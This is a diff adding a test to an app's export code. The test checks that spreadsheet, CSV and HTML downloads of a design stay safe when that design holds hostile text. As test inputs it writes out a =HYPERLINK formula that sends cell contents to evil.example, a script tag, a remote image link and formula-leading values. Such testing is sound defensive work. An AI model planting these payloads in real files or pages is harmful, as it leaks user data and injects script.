@@ -214,3 +214,26 @@ def test_the_sidebar_quote_inputs_have_help_with_their_default():
     at = start({"cur": "JPY", "rate": "150"})
     helps = {w.key: w.help for w in [*at.sidebar.radio, *at.sidebar.number_input] if w.key}
     assert "Default USD" in helps["currency"] and "Default 150" in helps["fx_rate"] and "Default 0" in helps["tax_pct"]
+
+
+def test_the_downloads_of_a_hostile_design_are_safe_to_open():
+    import csv
+
+    from exports.cells import starts_like_formula
+
+    hostile = load_design_data(template_text("save_app_data"))
+    hostile["name"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    hostile["description"] = "<script>alert(1)</script> ![x](https://evil.example/p.png) @SUM(1)"
+    hostile["components"][2]["gsis"] = [{"name": "-2+3", "reads": 1}]
+    at = start({"d": encode_design(hostile)})
+    assert at.session_state["design"] == hostile
+    files = {f.key: f for f in export_files(at.session_state["design"], QuoteSettings(), "en", date(2026, 11, 28))}
+    assert set(files["download_xlsx"].file_name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.")
+    book = load_workbook(io.BytesIO(files["download_xlsx"].make()))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert hostile["name"] in {c.value for c in cells}  # the user's text, as text
+    rows = list(csv.reader(io.StringIO(files["download_csv"].make().decode("utf-8-sig"))))
+    assert not [v for row in rows for v in row if starts_like_formula(v)]
+    html = files["download_html"].make().decode("utf-8")
+    assert "<script>" not in html and "evil.example/p.png\"" not in html and "<img" not in html
